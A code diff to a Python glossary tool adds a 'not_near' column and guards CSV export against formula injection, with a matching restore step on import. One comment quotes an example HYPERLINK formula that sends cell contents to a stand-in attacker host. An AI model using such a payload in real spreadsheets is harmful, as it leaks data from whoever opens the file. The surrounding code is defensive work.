@@ -29,7 +29,7 @@ from plainspeak.yamlio import LocatedDict, LocatedList, did_you_mean
 
 COLUMNS = [
     "id", "term", "variants", "alternatives", "advice", "why", "sources", "severity", "category",
-    "flag_examples", "pass_examples", "unless", "near", "window",
+    "flag_examples", "pass_examples", "unless", "near", "not_near", "window",
     "legal_term", "law", "explain", "pos", "autofix", "word_order", "case_sensitive",
     "status", "proposed_by", "agreed_by", "reviewed", "notes", "disabled", "glossary",
 ]
@@ -43,7 +43,8 @@ ACRONYM_ONLY = ["acronym", "expansions", "note", "well_known"]
 MIXED_COLUMNS = [*COLUMNS[:2], *ACRONYM_ONLY, *COLUMNS[2:]]
 #: Columns only entries have.
 ENTRY_ONLY = [c for c in COLUMNS if c not in ACRONYM_COLUMNS]
-LIST_COLUMNS = {"variants", "alternatives", "advice", "flag_examples", "pass_examples", "unless", "near", "expansions"}
+LIST_COLUMNS = {"variants", "alternatives", "advice", "flag_examples", "pass_examples", "unless", "near",
+                "not_near", "expansions"}
 BOOL_COLUMNS = {"legal_term", "case_sensitive", "disabled", "well_known"}
 TEXT_COLUMNS = {"id", "term", "why", "severity", "category", "autofix", "word_order", "status",
                 "proposed_by", "agreed_by", "reviewed", "notes", "acronym", "note", "law", "explain", "pos"}
@@ -134,8 +135,38 @@ def export_columns(glossaries: list[Glossary]) -> list[str]:
     return list(ACRONYM_COLUMNS)
 
 
+#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
+#: (OWASP's list for CSV injection): ``=HYPERLINK("http://evil.example/?"&A1)`` in a
+#: contributed entry would run when a panel member opens the sheet.
+_FORMULA_START = frozenset("=+-@\t\r")
+
+
+def _formula_like(cell: str) -> bool:
+    """Starts (after any apostrophes) with a character that makes a spreadsheet formula."""
+    rest = cell.lstrip("'")
+    return bool(rest) and rest[0] in _FORMULA_START
+
+
+def neutralise(cell: str) -> str:
+    """``'`` before a formula-like cell, as spreadsheets recommend: shown as text, never run.
+
+    A cell that already starts with apostrophes before such a character gets one more,
+    so ``restore`` gives every cell back exactly.
+    """
+    return "'" + cell if _formula_like(cell) else cell
+
+
+def restore(cell: str) -> str:
+    """Undo ``neutralise`` (the apostrophe is removed only where export put one)."""
+    return cell[1:] if cell.startswith("'") and _formula_like(cell[1:]) else cell
+
+
 def export_csv(glossaries: list[Glossary]) -> bytes:
-    """Every entry and acronym of the glossaries as CSV bytes (UTF-8 with BOM, Excel's CRLF rows)."""
+    """Every entry and acronym of the glossaries as CSV bytes (UTF-8 with BOM, Excel's CRLF rows).
+
+    Cells that a spreadsheet would run as formulas are neutralised (``neutralise``);
+    ``read_csv`` undoes it.
+    """
     columns = export_columns(glossaries)
     empty = dict.fromkeys(columns, "")
     out = io.StringIO()
@@ -143,9 +174,9 @@ def export_csv(glossaries: list[Glossary]) -> bytes:
     writer.writeheader()
     for glossary in glossaries:
         for entry in glossary.entries:
-            writer.writerow(entry_row(entry, glossary))
+            writer.writerow({k: neutralise(v) for k, v in entry_row(entry, glossary).items()})
         for acronym in glossary.acronyms:
-            writer.writerow({**empty, **acronym_row(acronym, glossary)})
+            writer.writerow({k: neutralise(v) for k, v in {**empty, **acronym_row(acronym, glossary)}.items()})
     return out.getvalue().encode("utf-8-sig")
 
 
@@ -225,7 +256,7 @@ def read_csv(data: bytes, path: str, default_category: str = "") -> ImportResult
                 result.problems.append(f"{path}: row {number} has more cells than there are column headings "
                                        f"(move the text in column {_letter(len(names))} into the right column)")
                 continue
-            padded = cells + [""] * (len(names) - len(cells))
+            padded = [restore(c) for c in cells] + [""] * (len(names) - len(cells))
             rows.append((number, {name: padded[i] for i, name in enumerate(names) if name}))
     except csv.Error as exc:
         raise GlossaryError(f"this spreadsheet cannot be read: {exc}", path=path,
@@ -376,7 +407,7 @@ def _row_mapping(number: int, row: dict[str, str], names: list[str], messages: l
             key = column.split("_")[0]
             examples[key] = located_list(list(_split(cell)), column)
             examples.key_pos[key] = pos
-        elif column in ("unless", "near"):
+        elif column in ("unless", "near", "not_near"):
             context[column] = located_list(list(_split(cell)), column)
             context.key_pos[column] = pos
         elif column == "window":
